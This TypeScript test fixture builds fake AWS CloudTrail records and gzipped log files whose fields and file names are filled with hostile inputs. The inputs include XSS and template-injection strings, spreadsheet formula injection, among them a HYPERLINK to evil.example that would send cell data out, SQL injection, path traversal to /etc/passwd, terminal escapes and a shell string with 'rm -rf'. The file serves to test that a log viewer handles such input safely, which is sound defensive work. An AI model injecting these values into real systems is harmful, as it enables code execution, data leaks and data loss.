import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";
import { gzipSync } from "node:zlib";

/** What a person may write into a name, a description or a user agent, and what it tries. */
export const HOSTILE_VALUES: readonly string[] = [
  "<script>globalThis.hostile=1</script>",
  '"><img src=x onerror="globalThis.hostile=1">',
  "</script><script>globalThis.hostile=1</script>",
  "<svg/onload=globalThis.hostile=1>",
  // oxlint-disable-next-line no-script-url -- the very thing that must not become a link
  "javascript:globalThis.hostile=1",
  "{{constructor.constructor('globalThis.hostile=1')()}}",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd",
  "\t=1+1",
  "\r=1+1",
  "\u001b[31mred\u001b]0;title\u0007",
  "nul\u0000here",
  "right\u202eto left",
  "half \ud83d of a pair",
  "two\r\nlines, \u2028separated",
  "'; DROP TABLE event; --",
  "100%_*\\ wild",
  "../../etc/passwd",
  "?from=x&outcome=failure#top",
  "$(touch pwned) `id` ; rm -rf",
  `long ${"w".repeat(400)}`,
];

const ACCOUNT = "444455556666";
const REGION = "eu-west-1";
const FOLDER = `AWSLogs/${ACCOUNT}/CloudTrail/${REGION}/2024/03/01`;

/** The records, as text; record `i` has the value `i + n` in its `n`th place, so that each value stands in each place. */
export const HOSTILE_RECORDS: readonly string[] = HOSTILE_VALUES.flatMap((_, index) => {
  const value = (place: number) => HOSTILE_VALUES[(index + place) % HOSTILE_VALUES.length] ?? "";
  const minute = String(index).padStart(2, "0");
  const common = {
    eventVersion: "1.08",
    awsRegion: REGION,
    sourceIPAddress: value(0),
    userAgent: value(1),
    requestID: value(2),
    eventType: "AwsApiCall",
    recipientAccountId: ACCOUNT,
  };
  const user = {
    type: "IAMUser",
    principalId: `AIDA${minute}${value(3)}`,
    arn: `arn:aws:iam::${ACCOUNT}:user/${value(3)}`,
    accountId: ACCOUNT,
    userName: value(3),
    accessKeyId: value(4),
  };
  const role = {
    type: "AssumedRole",
    principalId: `AROA${minute}:${value(5)}`,
    arn: `arn:aws:sts::${ACCOUNT}:assumed-role/${value(6)}/${value(5)}`,
    accountId: ACCOUNT,
    invokedBy: value(7),
    sessionContext: {
      sessionIssuer: { type: "Role", arn: `arn:aws:iam::${ACCOUNT}:role/${value(6)}`, userName: value(6) },
    },
  };
  const records = [
    {
      ...common,
      userIdentity: user,
      eventTime: `2024-03-01T10:${minute}:00Z`,
      eventSource: "codestar.amazonaws.com",
      eventName: "CreateProject",
      requestParameters: { id: value(8), name: value(9), description: value(10), tags: { [value(11)]: value(12) } },
      responseElements: { id: value(8), arn: `arn:aws:codestar:${REGION}:${ACCOUNT}:project/${value(8)}` },
      eventID: `hostile ${index} ${value(13)}`,
    },
    {
      ...common,
      userIdentity: role,
      eventTime: `2024-03-01T11:${minute}:00Z`,
      eventSource: "codestar.amazonaws.com",
      eventName: "AssociateTeamMember",
      errorCode: value(14),
      errorMessage: value(15),
      requestParameters: { projectId: value(8), userArn: value(16), projectRole: value(17) },
      responseElements: null,
      eventID: `00000000-0000-4000-8000-0000000001${minute}`,
    },
    {
      ...common,
      userIdentity: role,
      eventTime: `2024-03-01T12:${minute}:00Z`,
      eventSource: "codestar-connections.amazonaws.com",
      eventName: value(18),
      requestParameters: { connectionName: value(19), connectionArn: value(20), hostArn: value(21) },
      responseElements: { connectionArn: value(20) },
      eventID: `00000000-0000-4000-8000-0000000002${minute}`,
    },
    {
      ...common,
      userIdentity: user,
      eventTime: `2024-03-01T13:${minute}:00Z`,
      eventSource: "codeconnections.amazonaws.com",
      eventName: "CreateConnection",
      requestParameters: {
        connectionName: value(19),
        providerType: value(20),
        tags: [{ key: value(21), value: value(22) }],
      },
      // As far as an ARN may go and still be the key of a resource.
      responseElements: {
        connectionArn: `arn:aws:codeconnections:${REGION}:${ACCOUNT}:connection/${minute}"'><img/src=x&x=%2F..#\\`,
      },
      eventID: `00000000-0000-4000-8000-0000000003${minute}`,
    },
  ];
  return records.map((record) => JSON.stringify(record));
});

/** Writes a bucket with the hostile records, and with files that fail whose names are hostile too. */
export async function writeHostileTrail(root: string): Promise<void> {
  const folder = path.join(root, FOLDER);
  await mkdir(folder, { recursive: true });
  const file = (time: string, name: string) =>
    path.join(folder, `${ACCOUNT}_CloudTrail_${REGION}_${time}_${name}.json.gz`);
  await writeFile(file("20240301T1000Z", "hostileRecords01"), gzipSync(`{"Records":[${HOSTILE_RECORDS.join(",")}]}`));
  await writeFile(file("20240301T1005Z", "<img src=x onerror='globalThis.hostile=1'>"), "neither gzip nor JSON");
  await writeFile(file("20240301T1010Z", "=1+1 \u001b[31m\u202e\n"), gzipSync('{"Records":'));
}
